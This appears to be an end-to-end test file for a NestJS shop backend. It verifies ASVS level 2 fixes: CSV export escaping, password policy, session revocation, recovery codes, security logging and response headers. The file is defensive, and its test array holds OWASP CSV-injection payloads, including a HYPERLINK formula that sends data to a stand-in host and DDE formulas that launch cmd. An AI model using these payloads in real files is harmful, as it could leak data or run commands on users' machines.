import { DynamicModule, Module } from '@nestjs/common';
import { parse } from 'csv-parse/sync';
import type { LightMyRequestResponse } from 'fastify';
import { generate } from 'otplib';
import { Column, DataSource, Entity, PrimaryGeneratedColumn } from 'typeorm';
import { AppModule } from 'src/app.module';
import 'src/app/catalog/catalog.factories';
import { Category } from 'src/app/catalog/category.entity';
import { Product } from 'src/app/catalog/product.entity';
import { PASSWORD_BREACHED } from 'src/framework/auth/auth.service';
import { LOGIN_THROTTLE } from 'src/framework/auth/login-throttle.service';
import { hashPassword } from 'src/framework/auth/passwords';
import { SecurityEvent, SecurityEvents } from 'src/framework/auth/security-events';
import { sha256 } from 'src/framework/auth/token.service';
import { LoadedConfig } from 'src/framework/config/load-config';
import type { Problem } from 'src/framework/http/problem';
import { Resource } from 'src/framework/resource/resource.decorator';
import { ResourceModule } from 'src/framework/resource/resource.module';
import { TestApp, TestUser, createTestApp } from 'src/framework/testing';

/**
 * The gaps the ASVS 4.0.3 level 2 walk-through (docs/security/asvs-l2.md) found and closed, one `describe`
 * each: formula injection in the CSV export, the password policy, session lifetimes and revocation, the
 * security audit trail, security.txt and the response headers per surface.
 */

const HOST = 'shop.example';
const ORIGIN = `https://${HOST}`;
const IDLE_SECONDS = 3;
const EXPIRES = '2031-01-01T00:00:00Z';

/**
 * OWASP "CSV Injection": each character that must not start a cell, in front of a formula, plus the
 * page's two examples and the classic payloads (DDE, HYPERLINK exfiltration).
 */
const OWASP_PAYLOADS = [
  '=1+2";=1+2',
  `=1+2'" ;,=1+2`,
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  ' =1+2',
  '＝1+2',
];

/** A ledger line may be negative: the export must keep -12.50 a number. */
@Entity('asvs_ledger_line')
class LedgerLine {
  @PrimaryGeneratedColumn() id!: number;
  @Column({ type: 'varchar', length: 200 }) label!: string;
  @Column({ type: 'numeric', precision: 10, scale: 2 }) amount!: string;
}

@Resource(LedgerLine, { path: 'ledger-lines' })
class LedgerLineResource {}

@Module({ imports: [ResourceModule.forFeature([LedgerLineResource])] })
class LedgerModule {}

function withLedger(config: LoadedConfig): DynamicModule {
  const root = AppModule.forRoot(config);
  return { ...root, imports: [...(root.imports ?? []), LedgerModule] };
}

function problem(res: LightMyRequestResponse, status: number): Problem {
  expect(res.statusCode).toBe(status);
  return res.json<Problem>();
}

let ipCounter = 0;
const nextIp = (): string => `203.0.${Math.floor(++ipCounter / 250)}.${ipCounter % 250}`;
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

describe('ASVS 4.0.3 level 2: the gaps closed', () => {
  let t: TestApp;
  let dataSource: DataSource;
  let events: SecurityEvent[];

  const post = (url: string, payload: object, headers: Record<string, string> = {}) =>
    t.anonymous().inject({ method: 'POST', url, payload, remoteAddress: nextIp(), headers });
  /** An admin cookie session of a staff member: the cookie and the CSRF token. */
  const adminSession = async (user: TestUser) => {
    const res = await post(
      '/admin/api/session',
      { email: user.email, password: user.password },
      { host: HOST, origin: ORIGIN },
    );
    expect(res.statusCode).toBe(200);
    return {
      cookie: String(res.headers['set-cookie']).split(';')[0],
      csrf: res.json<{ csrfToken: string }>().csrfToken,
    };
  };
  const asSession = (
    session: { cookie: string; csrf: string },
    url: string,
    method = 'GET',
    payload?: object,
  ) =>
    t.anonymous().inject({
      method: method as 'GET',
      url,
      headers: { host: HOST, origin: ORIGIN, cookie: session.cookie, 'x-csrf-token': session.csrf },
      ...(payload ? { payload } : {}),
    });

  /** A user with 2FA turned on through the API: the recovery codes it was shown. */
  const withTwoFactor = async (user: TestUser) => {
    const asUser = t.actingAs(user);
    const { secret } = (await asUser.inject({ method: 'POST', url: '/api/auth/2fa/setup' })).json<{
      secret: string;
    }>();
    const code = await generate({ secret });
    const res = await asUser.inject({ method: 'POST', url: '/api/auth/2fa/enable', payload: { code } });
    expect(res.statusCode).toBe(200);
    return res.json<{ recoveryCodes: string[] }>().recoveryCodes;
  };

  beforeAll(async () => {
    t = await createTestApp(withLedger, {
      as: 'superuser',
      env: {
        PUBLIC_URL: ORIGIN,
        ADMIN_SESSION_IDLE_TIMEOUT: String(IDLE_SECONDS),
        ADMIN_SESSION_MAX_AGE: '3600',
        REFRESH_TOKEN_TTL: '7200',
        SECURITY_CONTACT: 'mailto:security@shop.example, https://shop.example/security',
        SECURITY_EXPIRES: EXPIRES,
        SECURITY_POLICY: 'https://shop.example/disclosure',
        SECURITY_LANGUAGES: 'en, fr',
      },
    });
    dataSource = t.app.get(DataSource);
    await dataSource.query(
      'CREATE TABLE asvs_ledger_line (id serial PRIMARY KEY, label varchar(200) NOT NULL, amount numeric(10,2) NOT NULL)',
    );
    events = [];
    t.app.get(SecurityEvents).subscribe((event) => events.push(event));
  });
  afterAll(() => t.close());
  beforeEach(() => {
    events.length = 0;
  });

  describe('V5.3 / OWASP CSV Injection: the admin CSV export', () => {
    it('exports every OWASP payload, as a product name or description, as an inert text cell', async () => {
      const category = await t.factory(Category).create({ name: 'CSV', slug: 'csv-injection' });
      for (const [i, payload] of OWASP_PAYLOADS.entries()) {
        await t.factory(Product).create({ sku: `INJ-${i}`, name: payload, description: payload, category });
      }
      const staff = await t.createUser({ isStaff: true, permissions: ['products.view'] });
      const res = await asSession(
        await adminSession(staff),
        '/admin/api/export/products.csv?filter[sku][startswith]=INJ-&sort=sku&fields=sku,name,description',
      );
      expect(res.statusCode).toBe(200);
      const rows = parse<{ sku: string; name: string; description: string }>(res.body, { columns: true });
      expect(rows).toHaveLength(OWASP_PAYLOADS.length);
      for (const row of rows) {
        const payload = OWASP_PAYLOADS[Number(row.sku.slice(4))];
        // A leading ' makes a spreadsheet show the text (and hide the quote) instead of evaluating it.
        expect(row.name).toBe(`'${payload}`);
        expect(row.description).toBe(`'${payload}`);
      }
      // OWASP's own escaping of its two examples, byte for byte.
      expect(res.body).toContain(`"'=1+2"";=1+2"`);
      expect(res.body).toContain(`"'=1+2'"" ;,=1+2"`);
    });

    it('keeps a negative decimal a number, and a number in a text column text', async () => {
      await dataSource.query(
        `INSERT INTO asvs_ledger_line (label, amount) VALUES ('-5', -12.50), ('refund', 3.00)`,
      );
      const res = await asSession(
        await adminSession(t.superuser!),
        '/admin/api/export/ledger-lines.csv?sort=id',
      );
      expect(res.statusCode).toBe(200);
      const [header, first, second] = res.body.trim().split('\n');
      expect(header).toBe('id,label,amount');
      expect(first).toMatch(/^\d+,"'-5",-12\.50$/);
      expect(second).toMatch(/^\d+,refund,3\.00$/);
    });
  });

  describe('V2.1: the password policy', () => {
    it.each([
      ['on the breached list', 'Password1234', 'passwordPolicy'],
      ['on the list with spaces and capitals', 'Qwerty Uiop 12', 'passwordPolicy'],
      ['11 characters', 'eleven char', 'isLength'],
      ['12 characters only with a run of spaces', 'ab          cdefg', 'passwordPolicy'],
      ['129 characters', 'p'.repeat(129), 'isLength'],
    ])(
      'refuses a new password %s, at registration and change (reset and Set password share the rule)',
      async (_name, password, code) => {
        const email = `policy-${Math.random().toString(36).slice(2)}@example.com`;
        const register = problem(await post('/api/auth/register', { email, password }), 422);
        expect(register.errors).toEqual([expect.objectContaining({ pointer: '/password', code })]);
        const user = await t.createUser();
        const change = await t.actingAs(user).inject({
          method: 'POST',
          url: '/api/auth/password/change',
          payload: { currentPassword: user.password, newPassword: password },
        });
        expect(problem(change, 422).errors).toEqual([
          expect.objectContaining({ pointer: '/newPassword', code }),
        ]);
        expect(
          (await dataSource.query<unknown[]>('SELECT 1 FROM "user" WHERE email = $1', [email])).length,
        ).toBe(0);
      },
    );

    it('accepts 64 and 128 characters, emoji and spaces included', async () => {
      for (const password of ['🔑 '.repeat(21) + 'x', 'a long passphrase '.repeat(8).slice(0, 128)]) {
        const email = `long-${Math.random().toString(36).slice(2)}@example.com`;
        expect((await post('/api/auth/register', { email, password })).statusCode).toBe(202);
      }
    });

    it('never truncates: a 128-character password missing its last character is refused', async () => {
      const password = `${'long and winding '.repeat(8)}`.slice(0, 127) + 'z';
      const user = await t.createUser({ password });
      expect((await post('/api/auth/login', { email: user.email, password })).statusCode).toBe(200);
      problem(await post('/api/auth/login', { email: user.email, password: password.slice(0, 127) }), 401);
    });

    it(`locks an account after ${LOGIN_THROTTLE.limit} failures for ${LOGIN_THROTTLE.windowSeconds} s: at most 100 failures an hour`, () => {
      // The behaviour itself: test/auth-2fa-throttle.e2e-spec.ts "login throttling".
      expect((LOGIN_THROTTLE.limit * 3600) / LOGIN_THROTTLE.windowSeconds).toBeLessThanOrEqual(100);
    });

    it('a stored breached password logs in no more: 403 password-breached, no tokens, logged', async () => {
      const user = await t.createUser();
      await dataSource.query('UPDATE "user" SET "passwordHash" = $2 WHERE id = $1', [
        user.id,
        await hashPassword('qwertyuiop12'),
      ]);
      const res = await post('/api/auth/login', { email: user.email, password: 'qwertyuiop12' });
      expect(problem(res, 403).type).toBe(PASSWORD_BREACHED);
      expect(res.body).not.toMatch(/accessToken|refreshToken/);
      expect(events).toContainEqual(
        expect.objectContaining({ event: 'login.refused', email: user.email, reason: PASSWORD_BREACHED }),
      );
    });
  });

  describe('V3.3: session lifetimes and revocation', () => {
    it('an admin session ends after ADMIN_SESSION_IDLE_TIMEOUT without requests, and lives on while used', async () => {
      const session = await adminSession(await t.createUser({ isStaff: true }));
      const loggedIn = Date.now();
      // Short pauses, so a loaded CI machine's slow answers never add up to an idle timeout between uses;
      // it ends with a use sent well past one timeout after login, which only a sliding deadline accepts.
      let sentAt = loggedIn;
      while (sentAt - loggedIn < IDLE_SECONDS * 1000 + 500) {
        await sleep((IDLE_SECONDS * 1000) / 5);
        sentAt = Date.now();
        expect((await asSession(session, '/admin/api/session')).statusCode).toBe(200);
      }
      await sleep(IDLE_SECONDS * 1000 + 500);
      expect((await asSession(session, '/admin/api/session')).statusCode).toBe(401);
    });

    it('an admin session ends ADMIN_SESSION_MAX_AGE after login, however busy', async () => {
      const staff = await t.createUser({ isStaff: true });
      const session = await adminSession(staff);
      expect((await asSession(session, '/admin/api/session')).statusCode).toBe(200);
      await dataSource.query(
        `UPDATE admin_session SET "createdAt" = now() - interval '3600 seconds' WHERE "userId" = $1`,
        [staff.id],
      );
      expect((await asSession(session, '/admin/api/session')).statusCode).toBe(401);
    });

    it('the admin cookie is httpOnly, SameSite, Path=/ and lasts ADMIN_SESSION_MAX_AGE', async () => {
      const staff = await t.createUser({ isStaff: true });
      const res = await post(
        '/admin/api/session',
        { email: staff.email, password: staff.password },
        { host: HOST, origin: ORIGIN },
      );
      const attributes = String(res.headers['set-cookie']).toLowerCase().split(/;\s*/);
      expect(attributes).toEqual(
        expect.arrayContaining(['max-age=3600', 'path=/', 'httponly', 'samesite=lax']),
      );
    });

    it('logout ends the access token of that session at once, not after its 15 minutes', async () => {
      const user = await t.createUser();
      const login = (await post('/api/auth/login', { email: user.email, password: user.password })).json<{
        accessToken: string;
        refreshToken: string;
      }>();
      expect((await t.actingAs(login).inject('/api/auth/me')).statusCode).toBe(200);
      expect((await post('/api/auth/logout', { refreshToken: login.refreshToken })).statusCode).toBe(204);
      problem(await t.actingAs(login).inject('/api/auth/me'), 401);
    });

    it("a password change ends the other sessions' access tokens at once and keeps the caller's", async () => {
      const user = await t.createUser();
      const other = (await post('/api/auth/login', { email: user.email, password: user.password })).json<{
        accessToken: string;
      }>();
      const res = await t.actingAs(user).inject({
        method: 'POST',
        url: '/api/auth/password/change',
        payload: { currentPassword: user.password, newPassword: 'a fresh passphrase 7' },
      });
      expect(res.statusCode).toBe(204);
      problem(await t.actingAs(other).inject('/api/auth/me'), 401);
      expect((await t.actingAs(user).inject('/api/auth/me')).statusCode).toBe(200);
    });

    it('refresh tokens live REFRESH_TOKEN_TTL seconds', async () => {
      const user = await t.createUser();
      const [row] = await dataSource.query<{ seconds: number }[]>(
        `SELECT extract(epoch FROM "expiresAt" - now())::int AS seconds FROM refresh_token
          WHERE "userId" = $1 ORDER BY "createdAt" DESC LIMIT 1`,
        [user.id],
      );
      expect(row.seconds).toBeGreaterThan(7100);
      expect(row.seconds).toBeLessThanOrEqual(7200);
    });
  });

  describe('V3.3.4: sessions a user can see and end', () => {
    interface Listed {
      id: string;
      kind: string;
      createdAt: string;
      lastUsedAt: string;
      expiresAt: string;
      current: boolean;
    }
    const login = async (user: TestUser) => {
      const res = await post('/api/auth/login', { email: user.email, password: user.password });
      return res.json<{ accessToken: string; refreshToken: string }>();
    };
    const list = async (res: Promise<LightMyRequestResponse>) => {
      const answer = await res;
      expect(answer.statusCode).toBe(200);
      return answer.json<Listed[]>();
    };

    it('lists API logins and admin logins, marks the current one, and never the sessions of others', async () => {
      const staff = await t.createUser({ isStaff: true });
      const phone = await login(staff);
      const admin = await adminSession(staff);
      await t.createUser({ isStaff: true }).then(adminSession); // someone else's session: not listed

      const seen = await list(t.actingAs(phone).inject('/api/auth/sessions'));
      // createUser's own token, the phone's login and the admin panel
      expect(seen.map((s) => s.kind).sort()).toEqual(['admin', 'token', 'token']);
      expect(seen.filter((s) => s.current)).toHaveLength(1);
      const current = seen.find((s) => s.current)!;
      expect(current.kind).toBe('token');
      for (const s of seen) {
        expect(Date.parse(s.createdAt)).toBeLessThanOrEqual(Date.parse(s.lastUsedAt));
        expect(Date.parse(s.expiresAt)).toBeGreaterThan(Date.now());
      }
      const fromAdmin = await list(asSession(admin, '/api/auth/sessions'));
      expect(fromAdmin.find((s) => s.current)?.kind).toBe('admin');
      expect(fromAdmin.map((s) => s.id).sort()).toEqual(seen.map((s) => s.id).sort());
      // A refresh moves lastUsedAt on, and the new access token is still that session.
      await sleep(20);
      const rotated = (await post('/api/auth/refresh', { refreshToken: phone.refreshToken })).json<{
        accessToken: string;
      }>();
      const after = await list(t.actingAs(rotated).inject('/api/auth/sessions'));
      const moved = after.find((s) => s.id === current.id)!;
      expect(moved.current).toBe(true);
      expect(Date.parse(moved.lastUsedAt)).toBeGreaterThan(Date.parse(current.lastUsedAt));
      // An API key may not see them.
      const key = await t.createApiKey(staff, []);
      problem(await t.withApiKey(key).inject('/api/auth/sessions'), 403);
    });

    it('ending a token session fails its refresh token and its access token at once', async () => {
      const user = await t.createUser();
      const laptop = await login(user);
      const phone = await login(user);
      const phoneId = (await list(t.actingAs(phone).inject('/api/auth/sessions'))).find((s) => s.current)!.id;
      const res = await t.actingAs(laptop).inject({ method: 'DELETE', url: `/api/auth/sessions/${phoneId}` });
      expect(res.statusCode).toBe(204);
      problem(await t.actingAs(phone).inject('/api/auth/me'), 401);
      problem(await post('/api/auth/refresh', { refreshToken: phone.refreshToken }), 401);
      expect((await t.actingAs(laptop).inject('/api/auth/me')).statusCode).toBe(200);
      expect((await post('/api/auth/refresh', { refreshToken: laptop.refreshToken })).statusCode).toBe(200);
      const left = await list(t.actingAs(user).inject('/api/auth/sessions'));
      expect(left.map((s) => s.id)).not.toContain(phoneId);
      expect(events).toContainEqual(
        expect.objectContaining({ event: 'session.ended', userId: user.id, kind: 'token' }),
      );
      // Gone is gone: a second DELETE finds nothing.
      const again = await t
        .actingAs(laptop)
        .inject({ method: 'DELETE', url: `/api/auth/sessions/${phoneId}` });
      problem(again, 404);
    });

    it('ending an admin session fails its cookie at once', async () => {
      const staff = await t.createUser({ isStaff: true });
      const admin = await adminSession(staff);
      const adminId = (await list(asSession(admin, '/api/auth/sessions'))).find((s) => s.current)!.id;
      expect(adminId).toMatch(/^[0-9a-f]{64}$/);
      const res = await t.actingAs(staff).inject({ method: 'DELETE', url: `/api/auth/sessions/${adminId}` });
      expect(res.statusCode).toBe(204);
      problem(await asSession(admin, '/admin/api/session'), 401);
      expect((await t.actingAs(staff).inject('/api/auth/me')).statusCode).toBe(200);
    });

    it("another user's session id, or no session id at all, is a 404 and ends nothing", async () => {
      const owner = await t.createUser({ isStaff: true });
      const ownerLogin = await login(owner);
      const ownerAdmin = await adminSession(owner);
      const ids = (await list(t.actingAs(ownerLogin).inject('/api/auth/sessions'))).map((s) => s.id);
      const intruder = await t.createUser({ isStaff: true });
      for (const id of [...ids, '00000000-0000-4000-8000-000000000000', 'a'.repeat(64), 'not-an-id']) {
        problem(
          await t.actingAs(intruder).inject({ method: 'DELETE', url: `/api/auth/sessions/${id}` }),
          404,
        );
      }
      expect((await t.actingAs(ownerLogin).inject('/api/auth/me')).statusCode).toBe(200);
      expect((await post('/api/auth/refresh', { refreshToken: ownerLogin.refreshToken })).statusCode).toBe(
        200,
      );
      expect((await asSession(ownerAdmin, '/admin/api/session')).statusCode).toBe(200);
      // The admin cookie needs its CSRF token to end a session, like every unsafe request.
      const forged = await t.anonymous().inject({
        method: 'DELETE',
        url: `/api/auth/sessions/${ids[0]}`,
        headers: { host: HOST, origin: ORIGIN, cookie: ownerAdmin.cookie },
      });
      problem(forged, 403);
    });
  });

  describe('V2.6.2 / V2.6.3: recovery codes', () => {
    const stored = async (user: TestUser) =>
      (
        await dataSource.query<{ codes: string[] }[]>(
          'SELECT "totpRecoveryCodes" AS codes FROM "user" WHERE id = $1',
          [user.id],
        )
      )[0].codes;
    const loginWith = (user: TestUser, otp: string) =>
      post('/api/auth/login', { email: user.email, password: user.password, otp });

    it('issues 80-bit codes in four readable groups, stored as keyed hashes bound to the user', async () => {
      const alice = await t.createUser();
      const codes = await withTwoFactor(alice);
      for (const code of codes) {
        // 16 characters of Crockford's base32 (5 bits each): 80 bits.
        expect(code).toMatch(/^[0-9a-hjkmnp-tv-z]{4}(-[0-9a-hjkmnp-tv-z]{4}){3}$/);
      }
      const hashes = await stored(alice);
      expect(hashes.every((h) => /^hmac:[0-9a-f]{64}$/.test(h))).toBe(true);
      expect(hashes).not.toContain(`hmac:${sha256(codes[0].replace(/-/g, ''))}`);
      // Alice's stored hashes copied onto Bob's row do not make Alice's codes Bob's.
      const bob = await t.createUser();
      await withTwoFactor(bob);
      await dataSource.query('UPDATE "user" SET "totpRecoveryCodes" = $2::jsonb WHERE id = $1', [
        bob.id,
        JSON.stringify(hashes),
      ]);
      problem(await loginWith(bob, codes[0]), 401);
      expect((await loginWith(alice, codes[0])).statusCode).toBe(200);
      problem(await loginWith(alice, codes[0]), 401);
    });

    it('a code issued before (10 characters, plain SHA-256) still works, once', async () => {
      const user = await t.createUser();
      await withTwoFactor(user);
      const legacy = 'k7qzm-2r8xv';
      await dataSource.query(
        `UPDATE "user" SET "totpRecoveryCodes" = "totpRecoveryCodes" || jsonb_build_array($2::text)
          WHERE id = $1`,
        [user.id, sha256('k7qzm2r8xv')],
      );
      expect(await stored(user)).toHaveLength(11);
      expect((await loginWith(user, legacy.toUpperCase())).statusCode).toBe(200);
      expect(await stored(user)).toHaveLength(10);
      problem(await loginWith(user, legacy), 401);
    });
  });

  describe('V2.2.3 / V2.5.5: a mail when 2FA changes', () => {
    it('mails the user when 2FA is turned on and when it is turned off, as after a password change', async () => {
      const user = await t.createUser();
      const asUser = t.actingAs(user);
      const { secret } = (await asUser.inject({ method: 'POST', url: '/api/auth/2fa/setup' })).json<{
        secret: string;
      }>();
      await t.mail.expectNotSent({ to: user.email, subject: /two-factor/i });
      const code = await generate({ secret });
      expect(
        (await asUser.inject({ method: 'POST', url: '/api/auth/2fa/enable', payload: { code } })).statusCode,
      ).toBe(200);
      const on = await t.mail.expectSent({
        to: user.email,
        subject: 'Two-factor authentication was turned on',
      });
      expect(on.text).toContain(`POST ${ORIGIN}/api/auth/password/forgot`);
      expect(on.text).toContain(`GET ${ORIGIN}/api/auth/sessions`);
      expect(on.text).not.toContain(secret);

      // A wrong proof changes nothing and mails nothing.
      const wrong = await asUser.inject({
        method: 'POST',
        url: '/api/auth/2fa/disable',
        payload: { password: 'not the password 1' },
      });
      expect(wrong.statusCode).toBe(403);
      await t.mail.expectNotSent({ to: user.email, subject: /turned off/ });
      const off = await asUser.inject({
        method: 'POST',
        url: '/api/auth/2fa/disable',
        payload: { password: user.password },
      });
      expect(off.statusCode).toBe(204);
      await t.mail.expectSent({ to: user.email, subject: 'Two-factor authentication was turned off' });
      expect(await t.mail.outbox({ to: user.email })).toHaveLength(2);
    });

    it('mails the old address when staff change the email of an account', async () => {
      const user = await t.createUser();
      const patch = (email: string) =>
        t.inject({ method: 'PATCH', url: `/api/users/${user.id}`, payload: { email } });
      // Refused (not an address): nothing changes, nothing is mailed.
      expect((await patch('not an address')).statusCode).toBe(422);
      await t.mail.expectNotSent({ to: user.email, subject: /email address was changed/ });
      const moved = `moved-${user.email}`;
      expect((await patch(moved)).statusCode).toBe(200);
      const mail = await t.mail.expectSent({ to: user.email, subject: 'Your email address was changed' });
      expect(mail.text).toContain(`changed to ${moved};`);
      await t.mail.expectNotSent({ to: moved });
    });

    it('replaces the recovery codes after a code of the account, and mails the user', async () => {
      const user = await t.createUser();
      const old = await withTwoFactor(user);
      const replace = (code: string) =>
        t.actingAs(user).inject({ method: 'POST', url: '/api/auth/2fa/recovery-codes', payload: { code } });

      problem(await replace('aaaa-bbbb-cccc-dddd'), 403);
      await t.mail.expectNotSent({ to: user.email, subject: /recovery codes/ });
      const res = await replace(old[0]);
      expect(res.statusCode).toBe(200);
      expect(res.headers['cache-control']).toBe('no-store');
      const fresh = res.json<{ recoveryCodes: string[] }>().recoveryCodes;
      expect(fresh).toHaveLength(10);
      expect(fresh.some((c) => old.includes(c))).toBe(false);
      await t.mail.expectSent({ to: user.email, subject: 'New recovery codes were created' });
      expect(events.map((e) => e.event)).toEqual(
        expect.arrayContaining(['2fa-recovery-codes.failed', '2fa.recovery-codes-replaced']),
      );

      const loginWith = (otp: string) =>
        post('/api/auth/login', { email: user.email, password: user.password, otp });
      problem(await loginWith(old[1]), 401);
      expect((await loginWith(fresh[0])).statusCode).toBe(200);
      // An API key may not replace them.
      const key = await t.createApiKey(user, []);
      problem(
        await t.withApiKey(key).inject({
          method: 'POST',
          url: '/api/auth/2fa/recovery-codes',
          payload: { code: fresh[1] },
        }),
        403,
      );
    });
  });

  describe('V7.1 / V7.2: security events, without secrets', () => {
    it('logs logins, lockouts, password, 2FA, API key and grant changes, and denials; account changes also in the audit history', async () => {
      const user = await t.createUser({ password: 'events password 1' });
      const secrets: string[] = [user.password, user.accessToken, user.refreshToken];
      await post('/api/auth/login', { email: user.email, password: 'not the password 1' });
      const login = await post('/api/auth/login', { email: user.email, password: user.password });
      const tokens = login.json<{ accessToken: string; refreshToken: string }>();
      secrets.push(tokens.accessToken, tokens.refreshToken);

      const asUser = t.actingAs(user);
      const key = await asUser.inject({
        method: 'POST',
        url: '/api/auth/api-keys',
        payload: { name: 'ci', permissions: [] },
      });
      const { id: keyId, key: plainKey } = key.json<{ id: number; key: string }>();
      secrets.push(plainKey);
      await asUser.inject({ method: 'DELETE', url: `/api/auth/api-keys/${keyId}` });

      const { secret } = (await asUser.inject({ method: 'POST', url: '/api/auth/2fa/setup' })).json<{
        secret: string;
      }>();
      secrets.push(secret);
      const code = await generate({ secret });
      const enabled = await asUser.inject({ method: 'POST', url: '/api/auth/2fa/enable', payload: { code } });
      secrets.push(...enabled.json<{ recoveryCodes: string[] }>().recoveryCodes);
      // The same code again: a replay, refused and logged.
      await post('/api/auth/login', { email: user.email, password: user.password, otp: code });
      await asUser.inject({
        method: 'POST',
        url: '/api/auth/2fa/disable',
        payload: { password: user.password },
      });
      const newPassword = 'events password 2';
      secrets.push(newPassword);
      await asUser.inject({
        method: 'POST',
        url: '/api/auth/password/change',
        payload: { currentPassword: user.password, newPassword },
      });

      const [{ id: permissionId }] = await dataSource.query<{ id: number }[]>(
        `SELECT id FROM permission WHERE codename = 'orders.view'`,
      );
      await t.inject({
        method: 'PATCH',
        url: `/api/users/${user.id}`,
        payload: { permissionIds: [permissionId] },
      });
      // A refused grant (rolled back) is an access denial, never a grants.changed.
      const staff = await t.createUser({ isStaff: true, permissions: ['users.change'] });
      problem(
        await t.actingAs(staff).inject({
          method: 'PATCH',
          url: `/api/users/${user.id}`,
          payload: { isSuperuser: true },
        }),
        403,
      );

      const victim = await t.createUser();
      const ip = nextIp();
      for (let i = 0; i < 11; i++) {
        await t.anonymous().inject({
          method: 'POST',
          url: '/api/auth/login',
          payload: { email: victim.email, password: `wrong guess ${i}` },
          remoteAddress: ip,
        });
      }

      const names = events.map((e) => e.event);
      expect(names).toEqual(
        expect.arrayContaining([
          'login.failed',
          'login.succeeded',
          'api-key.created',
          'api-key.revoked',
          '2fa.enabled',
          '2fa.code-reused',
          '2fa.disabled',
          'password.changed',
          'grants.changed',
          'access.denied',
          'login.locked',
        ]),
      );
      expect(events.find((e) => e.event === 'login.failed')).toMatchObject({
        email: user.email,
        reason: 'urn:nestor:problem:unauthorized',
        ip: expect.any(String) as string,
        requestId: expect.any(String) as string,
        at: expect.stringMatching(/Z$/) as string,
      });
      expect(events.find((e) => e.event === 'grants.changed')).toMatchObject({
        userId: user.id,
        actorId: t.superuser!.id,
        changed: ['permissionIds'],
        permissionIds: [permissionId],
      });
      expect(events.filter((e) => e.event === 'grants.changed')).toHaveLength(1);
      expect(events.find((e) => e.event === 'access.denied')).toMatchObject({
        userId: staff.id,
        method: 'PATCH',
        route: '/api/users/:id',
      });
      const logged = JSON.stringify(events);
      for (const secretValue of secrets) {
        expect(logged).not.toContain(secretValue);
      }

      const history = await dataSource.query<{ actionName: string; actorId: number; via: string }[]>(
        `SELECT "actionName", "actorId", via FROM audit_entry
          WHERE resource = 'users' AND "recordId" = $1 AND operation = 'action' ORDER BY id`,
        [String(user.id)],
      );
      expect(history.map((h) => h.actionName)).toEqual([
        'api-key.created',
        'api-key.revoked',
        '2fa.enabled',
        '2fa.disabled',
        'password.changed',
      ]);
      expect(history.every((h) => h.actorId === user.id && h.via === 'api')).toBe(true);
    });
  });

  describe('security.txt (RFC 9116)', () => {
    it('serves the configured contact and expiry as text/plain at /.well-known/security.txt', async () => {
      const res = await t.anonymous().inject({ url: '/.well-known/security.txt', headers: { host: HOST } });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/plain; charset=utf-8');
      expect(res.body.split('\n')).toEqual([
        'Contact: mailto:security@shop.example',
        'Contact: https://shop.example/security',
        `Expires: ${EXPIRES}`,
        'Policy: https://shop.example/disclosure',
        'Preferred-Languages: en, fr',
        `Canonical: ${ORIGIN}/.well-known/security.txt`,
        '',
      ]);
    });
  });

  describe('V14.4 / V8.2: response headers per surface', () => {
    it('the JSON API: CSP default-src none, never framed; no-store on authenticated answers only', async () => {
      const anonymous = await t.anonymous().inject('/api/products');
      expect(anonymous.headers).toMatchObject({
        'content-security-policy': "default-src 'none';frame-ancestors 'none'",
        'x-frame-options': 'DENY',
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'no-referrer',
      });
      // Products declare a server-side cache: anonymous answers are public and revalidated by their ETag.
      expect(anonymous.headers['cache-control']).toBe('public, no-cache');
      const user = await t.createUser();
      for (const url of ['/api/auth/me', '/api/products', '/api/orders', '/api/nowhere']) {
        expect((await t.actingAs(user).inject(url)).headers['cache-control']).toBe('no-store');
      }
      const staff = await t.createUser({ isStaff: true });
      const session = await adminSession(staff);
      expect((await asSession(session, '/admin/api/schema')).headers['cache-control']).toBe('no-store');
    });

    it('the admin SPA: its own scripts only, never framed; Swagger UI keeps what it needs', async () => {
      const admin = await t.anonymous().inject('/admin/login');
      expect(admin.headers['content-security-policy']).toMatch(/script-src 'self'/);
      expect(admin.headers['content-security-policy']).toMatch(/frame-ancestors 'none'/);
      expect(admin.headers['x-frame-options']).toBe('DENY');
      const docs = await t.anonymous().inject('/docs');
      expect(docs.headers['content-security-policy']).toMatch(/img-src 'self' data:/);
      expect(docs.headers['x-frame-options']).toBe('SAMEORIGIN');
    });
  });
});
